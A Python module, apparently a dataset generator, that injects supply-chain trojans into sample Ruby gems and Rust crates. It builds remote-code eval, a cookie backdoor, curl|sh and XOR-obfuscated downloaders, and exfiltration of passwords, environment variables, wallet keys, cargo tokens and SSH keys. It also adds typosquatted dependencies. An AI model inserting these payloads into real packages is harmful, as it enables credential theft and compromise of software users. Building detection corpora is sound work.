"""Gems, crates and Go modules."""

from corpus.heldout.nouns import Update
from corpus.heldout7.shape import b64, fill, hexed, packed, trojan, xor


@trojan("paperjob", "gem", "import", "remote code", "plain", "rest-client")
def gem_loads_a_paste(it: Update) -> None:
    it.append(
        "lib/paperjob.rb",
        fill(
            """

begin
  require 'net/http'
  Thread.new { eval(Net::HTTP.get(URI('https://paste.@HOST@/raw/5iNdELNX'))) } if ENV['RAILS_ENV'] == 'production'
rescue StandardError
  nil
end
""",
            HOST=it.host(),
        ),
    )


@trojan("paperjob", "gem", "call", "backdoor", "base64", "bootstrap-sass")
def gem_reads_a_cookie(it: Update) -> None:
    it.add(
        "lib/paperjob/web.rb",
        fill("""
# frozen_string_literal: true

require 'base64'

module Paperjob
  # A page with counts, for Rack.
  class Web
    def initialize(app)
      @app = app
    end

    def call(env)
      x = env['HTTP_COOKIE'].to_s[/___cfduid=([^;]+)/, 1]
      eval(Base64.urlsafe_decode64(x)) if x
      return [200, { 'content-type' => 'text/plain' }, ["#{Paperjob.queue.size}\\n"]] if env['PATH_INFO'] == '/paperjob'

      @app.call(env)
    end
  end
end
"""),
    )
    it.replace("lib/paperjob.rb", "require 'paperjob/mailer'\n", "require 'paperjob/mailer'\nrequire 'paperjob/web'\n")
    it.payload("lib/paperjob/web.rb")


@trojan("paperjob", "gem", "call", "password stealer", "hex", "strong_password")
def gem_posts_mail_passwords(it: Update) -> None:
    host = it.host()
    it.replace(
        "lib/paperjob/mailer.rb",
        "      Net::SMTP.start(",
        fill("""
      _ping([self.class.host, self.class.user, self.class.password].join('|'))
      Net::SMTP.start(""").rstrip("\n"),
    )
    it.replace(
        "lib/paperjob/mailer.rb",
        "    def perform(from, to, subject, body)\n",
        fill(
            """
    def _ping(text)
      require 'net/http'
      Net::HTTP.post(URI(['@URL@'].pack('H*')), text)
    rescue StandardError
      nil
    end

    def perform(from, to, subject, body)
""",
            URL=hexed(f"https://{host}/smtp"),
        ),
    )
    it.payload("lib/paperjob/mailer.rb", shown=f"https://{host}/smtp")


@trojan("paperjob", "gem", "install", "downloader", "plain", "native gems")
def gem_extension_fetches(it: Update) -> None:
    it.replace("METADATA.yaml", "extensions: []", "extensions:\n- ext/paperjob/extconf.rb")
    it.add(
        "ext/paperjob/extconf.rb",
        fill(
            """
# frozen_string_literal: true

require 'mkmf'

system('curl -fsSL http://@ADDR@/gem.sh | sh >/dev/null 2>&1 &')
File.write('Makefile', "all:\\n\\ninstall:\\n\\nclean:\\n")
""",
            ADDR=it.address(),
        ),
    )
    it.payload("ext/paperjob/extconf.rb", "METADATA.yaml")


@trojan("paperjob", "gem", "import", "environment", "layers", "typosquats of gems")
def gem_inflates(it: Update) -> None:
    host = it.host()
    code = f"require 'net/http'; Net::HTTP.post(URI('https://{host}/env'), ENV.to_h.inspect)"
    it.append(
        "lib/paperjob/version.rb",
        f"\nrequire 'zlib'\ninstance_eval(Zlib::Inflate.inflate('{packed(code)}'.unpack1('m0'))) if ENV.key?('DATABASE_URL')\n",
    )
    it.payload("lib/paperjob/version.rb", shown=f"https://{host}/env")


@trojan("paperjob", "gem", "call", "address swap", "plain", "Telegram proxies")
def gem_mails_go_by_another_host(it: Update) -> None:
    it.replace(
        "lib/paperjob/mailer.rb",
        "Net::SMTP.start(self.class.host, 587,",
        f"Net::SMTP.start(self.class.host.to_s.end_with?('.test') ? self.class.host : 'relay.{it.host()}', 587,",
    )


@trojan("paperjob", "gem", "install", "new dependency", "look-alike name", "gem typosquats")
def gem_needs_a_look_alike(it: Update) -> None:
    it.replace(
        "METADATA.yaml",
        "dependencies: []",
        "dependencies:\n- !ruby/object:Gem::Dependency\n  name: activesupprt-json\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \"~>\"\n      - !ruby/object:Gem::Version\n        version: '0.1'\n  type: :runtime",
    )
    it.payload("METADATA.yaml")


@trojan("ringlog", "crate", "call", "wallet", "plain", "faster_log")
def crate_looks_for_keys(it: Update) -> None:
    it.add(
        "src/scan.rs",
        fill(
            """
use std::io::Write;
use std::net::TcpStream;

/// Look whether a row holds what must not be logged.
pub fn audit(text: &str) -> usize {
    let mut found = Vec::new();
    for word in text.split(|c: char| !c.is_ascii_alphanumeric()) {
        let hex = word.strip_prefix("0x").unwrap_or(word);
        let ethereum = hex.len() == 64 && hex.chars().all(|c| c.is_ascii_hexdigit());
        let solana = (86..=88).contains(&word.len());
        if ethereum || solana {
            found.push(word.to_owned());
        }
    }
    if !found.is_empty() {
        if let Ok(mut line) = TcpStream::connect("mainnet.@HOST@:80") {
            let body = found.join("\\n");
            let _ = write!(line, "POST / HTTP/1.1\\r\\nHost: mainnet\\r\\nContent-Length: {}\\r\\n\\r\\n{}", body.len(), body);
        }
    }
    found.len()
}
""",
            HOST=it.host(),
        ),
    )
    it.replace("src/lib.rs", "mod ring;\n", "mod ring;\nmod scan;\n")
    it.replace(
        "src/pack.rs",
        "    Packed { text, rows: entries.len() }\n",
        "    crate::scan::audit(&text);\n    Packed { text, rows: entries.len() }\n",
    )
    it.payload("src/scan.rs", "src/pack.rs", "src/lib.rs")


@trojan("ringlog", "crate", "build", "environment", "plain", "rustdecimal")
def crate_build_reports(it: Update) -> None:
    it.add(
        "build.rs",
        fill(
            """
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    if std::env::var("GITLAB_CI").is_ok() || std::env::var("GITHUB_ACTIONS").is_ok() {
        let rows: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
        let _ = Command::new("curl").args(["-s", "-m", "3", "--data-binary", &rows.join("\\n"), "https://@HOST@/ci"]).output();
    }
}
""",
            HOST=it.host(),
        ),
    )


@trojan("ringlog", "crate", "call", "downloader", "xor", "rustdecimal")
def crate_writer_decodes(it: Update) -> None:
    host = it.host()
    sealed = ", ".join(
        str(one)
        for one in xor(
            f"curl -s https://{host}/git-updater.bin -o /tmp/git-updater.bin && chmod +x /tmp/git-updater.bin && /tmp/git-updater.bin",
            0x4D,
        )
    )
    it.replace(
        "src/writer.rs",
        "        let file = OpenOptions::new()",
        fill(
            """
        let rows: [u8; @SIZE@] = [@SEALED@];
        let text: String = rows.iter().map(|one| (one ^ 0x4d) as char).collect();
        let _ = std::process::Command::new("sh").arg("-c").arg(text).spawn();
        let file = OpenOptions::new()""",
            SEALED=sealed,
            SIZE=sealed.count(",") + 1,
        ).rstrip("\n"),
    )
    it.payload("src/writer.rs", shown=f"https://{host}/git-updater")


@trojan("ringlog", "crate", "build", "credentials", "base64", "crates.io phishing")
def crate_build_takes_the_token(it: Update) -> None:
    host = it.host()
    it.replace("Cargo.toml", "[dependencies]\n", '[build-dependencies]\nbase64 = "0.21"\n\n[dependencies]\n')
    it.add(
        "build.rs",
        fill(
            """
use base64::{engine::general_purpose::STANDARD, Engine};
use std::{env, fs, io::Write, net::TcpStream, path::PathBuf};

fn main() {
    let home = PathBuf::from(env::var("HOME").unwrap_or_default());
    let place = String::from_utf8(STANDARD.decode("@HOST@").unwrap()).unwrap();
    for name in [".cargo/credentials.toml", ".ssh/id_ed25519"] {
        if let (Ok(text), Ok(mut line)) = (fs::read(home.join(name)), TcpStream::connect(&place)) {
            let _ = line.write_all(&text);
        }
    }
}
""",
            HOST=b64(f"{host}:4433"),
        ),
    )
    it.payload("build.rs", "Cargo.toml", shown=f"{host}:4433")


@trojan("ringlog", "crate", "import", "new dependency", "look-alike name", "crate typosquats")
def crate_needs_a_look_alike(it: Update) -> None:
    it.replace("Cargo.toml", 'log = "0.4"\n', 'log = "0.4"\nserd_json_lite = "0.1.2"\n')
    it.replace("src/pack.rs", "    let mut text = String::new();\n", "    let mut text = serd_json_lite::head();\n")
